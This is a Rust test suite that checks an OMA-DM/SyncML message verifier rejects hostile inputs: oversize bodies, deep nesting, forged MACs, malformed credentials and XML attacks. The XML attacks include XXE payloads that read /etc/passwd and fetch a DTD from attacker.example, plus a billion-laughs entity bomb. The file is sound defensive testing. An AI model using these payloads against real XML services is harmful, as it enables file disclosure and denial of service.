//! Hostile and broken inputs: every one is ignored with the expected reason, none panics, and an
//! oversize body never reaches the decoder.

use omadm_dmsec::{ParamsErrorKind, Username};
use omadm_syncml::sessionless::Rule;
use omadm_verifier::{
    IgnoreReason, Ignored, Pinned, Policy, ReplayState, TransportMeta, Verdict, Verifier,
};
use omadm_xml::{ErrorKind, Limit, Limits};

use crate::{
    DEVICE, PASSWORD, USER, allocations, device, header_for, nonce, outcome, report_alert, sign,
    sign_as, template, vector, verify,
};

/// Verifies `body` (no header, default policy, 16 KB limit) and checks the outcome's short name.
#[track_caller]
fn check(body: &[u8], expect: &str) {
    check_with(
        &Verifier::new(16 * 1024),
        body,
        &TransportMeta::new(),
        expect,
    );
}

#[track_caller]
fn check_with(verifier: &Verifier, body: &[u8], transport: &TransportMeta<'_>, expect: &str) {
    let verdict = verify(verifier, body, transport, &device(Policy::default()));
    assert_eq!(outcome(&verdict), expect, "{verdict:?}");
}

/// The malformed kind of a verdict.
fn malformed(verdict: &Verdict<'_>) -> ErrorKind {
    match verdict.ignore_reason() {
        Some(IgnoreReason::Malformed(e)) => *e.kind(),
        other => panic!("expected malformed, got {other:?}"),
    }
}

/// The violated rule of a verdict.
fn violation(verdict: &Verdict<'_>) -> Rule {
    match verdict.ignore_reason() {
        Some(IgnoreReason::NotSessionless(v)) => v.rule,
        other => panic!("expected not-sessionless, got {other:?}"),
    }
}

fn default_verify(body: &[u8]) -> Verdict<'_> {
    verify(
        &Verifier::new(16 * 1024),
        body,
        &TransportMeta::new(),
        &device(Policy::default()),
    )
}

// ---------------------------------------------------------------------------------------------
// Size: rejected before parsing.

#[test]
fn oversize_body_never_reaches_the_decoder() {
    let verifier = Verifier::new(16 * 1024);
    // 10 MB that the decoder would refuse at its first byte (not UTF-8, not XML).
    let junk = vec![0xFFu8; 10 * 1024 * 1024];
    // 10 MB that starts like a valid signed message.
    let mut valid_start = vector("in-message.xml");
    valid_start.resize(10 * 1024 * 1024, b' ');

    // Premise: every decoder call allocates (its element stack, or its boxed error), even on
    // input it refuses at once.
    let (_, n) = allocations(|| omadm_xml::decode_header(&junk[..1], &Limits::DEFAULT).is_err());
    assert!(n > 0);
    let (_, n) = allocations(|| omadm_xml::decode_header(&valid_start[..1096], &Limits::DEFAULT));
    assert!(n > 0);

    for body in [&junk, &valid_start] {
        let (result, n) = allocations(|| verifier.start(body, &TransportMeta::new()));
        // The decoder would have said `Malformed` for the junk; the size check came first.
        assert_eq!(
            result.unwrap_err().reason(),
            &IgnoreReason::TooLarge {
                size: 10 * 1024 * 1024,
                limit: 16 * 1024
            }
        );
        assert_eq!(n, 0, "rejecting an oversize body must not allocate");
    }
    // One byte over is too large, the limit itself is not.
    let at_limit = vec![b' '; 16 * 1024];
    assert_eq!(
        Verifier::new(16 * 1024)
            .start(&at_limit, &TransportMeta::new())
            .unwrap_err()
            .reason()
            .as_str(),
        "malformed"
    );
    let over = vec![b' '; 16 * 1024 + 1];
    assert_eq!(
        Verifier::new(16 * 1024)
            .start(&over, &TransportMeta::new())
            .unwrap_err()
            .reason()
            .as_str(),
        "too-large"
    );
}

// ---------------------------------------------------------------------------------------------
// XML attacks: refused by the header scan, before any secret is looked up.

#[test]
fn xxe_is_refused() {
    let body = vector("in-message.xml");
    let body = String::from_utf8(body).unwrap().replacen(
        "<?xml version=\"1.0\"?>",
        "<?xml version=\"1.0\"?><!DOCTYPE SyncML [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
        1,
    );
    let body = body.replace("<LocName>alice</LocName>", "<LocName>&xxe;</LocName>");
    let verdict = default_verify(body.as_bytes());
    assert_eq!(malformed(&verdict), ErrorKind::Doctype);
    // Even a signed one (a rogue device) is refused.
    let signed = sign(&template(1, &report_alert(1, "1")).replacen(
        "<?xml version=\"1.0\"?>",
        "<?xml version=\"1.0\"?><!DOCTYPE SyncML SYSTEM \"http://attacker.example/x.dtd\" [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>",
        1,
    ));
    assert_eq!(malformed(&default_verify(&signed)), ErrorKind::Doctype);
}

#[test]
fn entity_expansion_is_refused() {
    let mut dtd = String::from("<!DOCTYPE SyncML [<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};&lol{p};\">",
            p = i - 1
        ));
    }
    dtd.push_str("]>");
    let body = template(1, &report_alert(1, "x"))
        .replacen(
            "<?xml version=\"1.0\"?>",
            &format!("<?xml version=\"1.0\"?>{dtd}"),
            1,
        )
        .replace("<LocName>alice</LocName>", "<LocName>&lol9;</LocName>");
    let signed = sign(&body);
    assert_eq!(malformed(&default_verify(&signed)), ErrorKind::Doctype);
    // An undeclared entity without any DTD, in the body of a signed message.
    let signed = sign(
        &template(1, &report_alert(1, "x")).replace("<Data>1230</Data>", "<Data>&lol9;</Data>"),
    );
    assert_eq!(malformed(&default_verify(&signed)), ErrorKind::Entity);
}

#[test]
fn deep_nesting_is_refused() {
    // A rogue device signs a body nested 10 000 deep: the MAC is good, the decoder's depth
    // limit stops it.
    let depth = 10_000;
    let mut body = String::new();
    for i in 0..depth {
        body.push_str(&format!("<Atomic><CmdID>{}</CmdID>", i + 1));
    }
    body.push_str(&report_alert(depth + 1, "x"));
    for _ in 0..depth {
        body.push_str("</Atomic>");
    }
    let signed = sign(&template(1, &body));
    let verifier = Verifier::new(1024 * 1024);
    let verdict = verify(
        &verifier,
        &signed,
        &TransportMeta::new(),
        &device(Policy::default()),
    );
    assert_eq!(malformed(&verdict), ErrorKind::LimitExceeded(Limit::Depth));
    // Deep nesting inside the header is stopped by the header scan, unsigned.
    let mut deep =
        String::from("<?xml version=\"1.0\"?><SyncML xmlns=\"SYNCML:SYNCML1.2\"><SyncHdr>");
    deep.push_str(&"<Target>".repeat(depth as usize));
    check_with(
        &verifier,
        deep.as_bytes(),
        &TransportMeta::new(),
        "malformed",
    );
}

#[test]
fn hundred_thousand_tiny_elements_are_refused() {
    let mut body = String::from("<Alert><CmdID>1</CmdID><Data>1230</Data>");
    body.push_str(&"<Item/>".repeat(100_000));
    body.push_str("</Alert>");
    let signed = sign(&template(1, &body));
    let verifier = Verifier::new(1024 * 1024);
    let verdict = verify(
        &verifier,
        &signed,
        &TransportMeta::new(),
        &device(Policy::default()),
    );
    assert_eq!(
        malformed(&verdict),
        ErrorKind::LimitExceeded(Limit::Elements)
    );
    // Under a tighter element limit, and under the default one with fewer elements, the profile
    // rule names the problem.
    let mut body = String::from("<Alert><CmdID>1</CmdID><Data>1230</Data>");
    body.push_str(&"<Item/>".repeat(50_000));
    body.push_str("</Alert>");
    let signed = sign(&template(1, &body));
    let verdict = verify(
        &verifier,
        &signed,
        &TransportMeta::new(),
        &device(Policy::default()),
    );
    assert_eq!(violation(&verdict), Rule::ItemCount);
    let tight = verifier.with_limits(Limits::DEFAULT.with_max_elements(1000));
    let verdict = verify(
        &tight,
        &signed,
        &TransportMeta::new(),
        &device(Policy::default()),
    );
    assert_eq!(
        malformed(&verdict),
        ErrorKind::LimitExceeded(Limit::Elements)
    );
}

#[test]
fn truncated_messages_are_ignored() {
    for name in ["in-message.xml", "header-carrier.xml"] {
        let body = vector(name);
        let header = header_for(&body);
        for len in 0..body.len() {
            let cut = &body[..len];
            for transport in [
                TransportMeta::new(),
                TransportMeta::new().with_hmac_header(&header),
            ] {
                let verdict = verify(
                    &Verifier::new(16 * 1024),
                    cut,
                    &transport,
                    &device(Policy::default()),
                );
                assert!(!verdict.is_accepted(), "{name} cut at {len} was accepted");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// A good MAC over a message that breaks the profile: ignored, with the violation named.

#[track_caller]
fn check_violation(body: &str, rule: Rule) {
    let signed = sign(body);
    let verdict = default_verify(&signed);
    assert_eq!(violation(&verdict), rule, "{verdict:?}");
}

#[test]
fn valid_mac_over_a_profile_violation_is_ignored() {
    let ok = report_alert(1, "12");
    let t = |body: &str| template(1, body);
    check_violation(
        &t(&ok).replace("<SessionID>0<", "<SessionID>1<"),
        Rule::SessionId,
    );
    check_violation(&t(&ok).replace("DM/1.3", "DM/1.1"), Rule::VerProto);
    check_violation(&t(&ok).replace("<VerDTD>1.2", "<VerDTD>1.1"), Rule::VerDtd);
    check_violation(&t(&ok.replace(">1230<", ">1226<")), Rule::AlertCode);
    check_violation(
        &t(&ok.replace("</Item>", "</Item><Item><Data>x</Data></Item>")),
        Rule::ItemCount,
    );
    check_violation(&t(&ok.replace("<![CDATA[12]]>", "12")), Rule::DataCdata);
    check_violation(
        &t(&ok.replace("<![CDATA[12]]>", " <![CDATA[12]]> ")),
        Rule::DataCdata,
    );
    check_violation(
        &t(&ok.replace("</Data></Item>", "</Data><MoreData/></Item>")),
        Rule::MoreData,
    );
    check_violation(
        &t(&ok.replace(
            "</Type>",
            "</Type><Mark xmlns=\"syncml:metinf\">major</Mark>",
        )),
        Rule::MarkValue,
    );
    check_violation(
        &t(&ok.replace("<Format xmlns=\"syncml:metinf\">int</Format>", "")),
        Rule::MetaFormat,
    );
    check_violation(
        &t(&ok.replace(
            "<Type xmlns=\"syncml:metinf\">urn:oma:mo:battery:1.0</Type>",
            "",
        )),
        Rule::MetaType,
    );
    check_violation(
        &t(&ok.replace("<CmdID>1</CmdID>", "<CmdID>1</CmdID><NoResp/>")),
        Rule::AlertNoResp,
    );
    check_violation(
        &t(&ok.replace(
            "<Data>1230</Data>",
            "<Data>1230</Data><Correlator>c</Correlator>",
        )),
        Rule::AlertCorrelator,
    );
    check_violation(
        &t(&ok.replace(
            "<CmdID>1</CmdID>",
            "<CmdID>1</CmdID><Cred><Data>x</Data></Cred>",
        )),
        Rule::AlertCred,
    );
    check_violation(&t(&format!("{ok}{ok}")), Rule::CmdIdUnique);
    check_violation(&t(""), Rule::BodyEmpty);
    check_violation(
        &t(&format!(
            "{ok}<Status><CmdID>2</CmdID><MsgRef>1</MsgRef><CmdRef>0</CmdRef><Cmd>SyncHdr</Cmd><Data>200</Data></Status>"
        )),
        Rule::BodyOnlyReports,
    );
    check_violation(
        &t(&format!(
            "{ok}<Alert><CmdID>2</CmdID><Data>1226</Data><Item><Meta><Format xmlns=\"syncml:metinf\">chr</Format><Type xmlns=\"syncml:metinf\">urn:x:y</Type></Meta><Data><![CDATA[generic]]></Data></Item></Alert>"
        )),
        Rule::AlertCode,
    );
}

// ---------------------------------------------------------------------------------------------
// Identity, scheme and carrier problems.

#[test]
fn unknown_device() {
    let body = vector("in-message.xml");
    let verifier = Verifier::new(16 * 1024);
    let pending = verifier.start(&body, &TransportMeta::new()).unwrap();
    // The caller's lookup finds nothing.
    assert_eq!(pending.username(), USER);
    let ignored = Ignored::new(IgnoreReason::UnknownDevice);
    assert_eq!(ignored.reason().as_str(), "unknown-device");
    // A secret for another user is refused before any MAC work.
    let bob = omadm_verifier::DeviceSecret::new(
        Username::new("bob").unwrap(),
        DEVICE,
        &omadm_dmsec::StoredSecret::Password(omadm_dmsec::Secret::from(PASSWORD)),
        nonce(),
        Policy::default(),
    )
    .unwrap();
    let verdict = pending.finish(&bob, &mut ReplayState::new(), crate::at(0));
    assert_eq!(outcome(&verdict), "unknown-device");
    // A message signed by a user the server holds under another device id.
    let other_device =
        sign(&template(1, &report_alert(1, "1")).replace(DEVICE, "IMEI:000000000000000"));
    check(&other_device, "device-mismatch");
    // A message signed with another secret.
    let forged = String::from_utf8(body)
        .unwrap()
        .replace("mac=ylB0", "mac=ylB1");
    check(forged.as_bytes(), "bad-mac");
}

#[test]
fn wrong_algorithm_token() {
    let body = String::from_utf8(vector("in-message.xml")).unwrap();
    let unknown = body.replace("algorithm=SHA256", "algorithm=SHA512");
    match default_verify(unknown.as_bytes()).ignore_reason() {
        Some(IgnoreReason::BadMacParams(e)) => {
            assert_eq!(e.kind(), ParamsErrorKind::UnknownAlgorithm)
        }
        other => panic!("{other:?}"),
    }
    // A known token that does not match the MAC's length.
    let mismatch = body.replace("algorithm=SHA256", "algorithm=MD5   ");
    check(mismatch.as_bytes(), "bad-mac-params");
    // A valid MD5 MAC for a device pinned to SHA-256.
    let md5 = Policy::default().with_algorithm(omadm_dmsec::Algorithm::Md5);
    let signed = sign_as(&template(1, &report_alert(1, "1")), USER, &md5);
    assert_eq!(
        default_verify(&signed).ignore_reason(),
        Some(&IgnoreReason::WrongScheme(Pinned::Algorithm))
    );
    // ... and accepted for a device pinned to MD5.
    let verdict = verify(
        &Verifier::new(16 * 1024),
        &signed,
        &TransportMeta::new(),
        &device(md5),
    );
    assert!(verdict.is_accepted(), "{verdict:?}");
}

#[test]
fn cred_problems() {
    let body = String::from_utf8(vector("in-message.xml")).unwrap();
    let cred_start = body.find("<Cred>").unwrap();
    let cred_end = body.find("</Cred>").unwrap() + "</Cred>".len();
    check(
        format!("{}{}", &body[..cred_start], &body[cred_end..]).as_bytes(),
        "missing-cred",
    );
    for (from, to) in [
        (r#"algorithm=SHA256, "#, r#"algorithm=SHA256, <!-- c -->"#),
        (r#"username="alice""#, r#"username="&#97;lice""#),
        (r#"username="alice""#, r#"username="<![CDATA[alice]]>""#),
        (r#"username="alice""#, r#"username="&amp;lice""#),
    ] {
        check(body.replace(from, to).as_bytes(), "bad-cred-data");
    }
    // The in-message list is excluded from the MAC, so only its canonical spelling is accepted.
    for (from, to) in [
        ("algorithm=SHA256", "algorithm=sha256"),
        ("algorithm=SHA256", "Algorithm=SHA256"),
        ("algorithm=SHA256", "algorithm=SHA-256"),
        (r#"username="alice""#, "username=alice"),
        (", mac=", ",mac="),
        (r#"algorithm=SHA256, "#, " algorithm=SHA256, "),
        (
            "ylB0RTUpXaqXa7EHQz6/T8ErJqi1elHh6bXzumJuczA=",
            "ylB0RTUpXaqXa7EHQz6/T8ErJqi1elHh6bXzumJuczA= ",
        ),
    ] {
        check(body.replace(from, to).as_bytes(), "bad-cred-data");
    }
    // The header carrier follows the DM 1.2 grammar: any order, spacing and case.
    let hdr_body = vector("header-carrier.xml");
    let verdict = verify(
        &Verifier::new(16 * 1024),
        &hdr_body,
        &TransportMeta::new().with_hmac_header(
            r#"MAC=8QMpmw7imKu/4FkmZd2aWMlL/f6VnuhbewR9j6k0dSw= ,Username=alice,algorithm=sha-256"#,
        ),
        &device(Policy::default()),
    );
    assert!(verdict.is_accepted(), "{verdict:?}");
    for (from, to) in [
        ("syncml:auth-MAC", "syncml:auth-basic"),
        ("syncml:auth-MAC", "syncml:auth-X509"),
        (">chr</Format>", ">b64</Format>"),
        (r#"<Type xmlns="syncml:metinf">syncml:auth-MAC</Type>"#, ""),
    ] {
        check(body.replace(from, to).as_bytes(), "unsupported-scheme");
    }
    check(
        body.replace("username=\"alice\"", "username=\"bob\"")
            .as_bytes(),
        "identity-mismatch",
    );
    check(
        body.replace("<LocName>alice</LocName>", "").as_bytes(),
        "identity-mismatch",
    );
    check(
        body.replace(", mac=", ", mac=ylB0").as_bytes(),
        "bad-mac-params",
    );
    check(
        body.replace("username=", "user=").as_bytes(),
        "bad-mac-params",
    );
    // A valid MAC in a header too: both carriers.
    let header = header_for(body.as_bytes());
    check_with(
        &Verifier::new(16 * 1024),
        body.as_bytes(),
        &TransportMeta::new().with_hmac_header(&header),
        "both-carriers",
    );
    // A header that does not parse, or names another user.
    let hdr_body = vector("header-carrier.xml");
    for (header, expect) in [
        ("", "bad-mac-params"),
        ("algorithm=SHA256", "bad-mac-params"),
        ("\u{fffd}", "bad-mac-params"),
        (
            r#"algorithm=SHA256, username="bob", mac=8QMpmw7imKu/4FkmZd2aWMlL/f6VnuhbewR9j6k0dSw="#,
            "identity-mismatch",
        ),
        (
            r#"algorithm=SHA256, username="alice", mac=8QMpmw7imKu/4FkmZd2aWMlL/f6VnuhbewR9j6k0dSw=, mac=8QMpmw7imKu/4FkmZd2aWMlL/f6VnuhbewR9j6k0dSw="#,
            "bad-mac-params",
        ),
    ] {
        check_with(
            &Verifier::new(16 * 1024),
            &hdr_body,
            &TransportMeta::new().with_hmac_header(header),
            expect,
        );
    }
}

#[test]
fn garbage_is_ignored() {
    for body in [
        &b""[..],
        b"<",
        b"<?xml version=\"1.0\"?>",
        b"<SyncML/>",
        b"<SyncML xmlns=\"SYNCML:SYNCML1.2\"></SyncML>",
        b"\xEF\xBB\xBF",
        b"\x00\x01\x02",
        b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><SyncML xmlns=\"SYNCML:SYNCML1.2\"/>",
    ] {
        check(body, "malformed");
    }
}
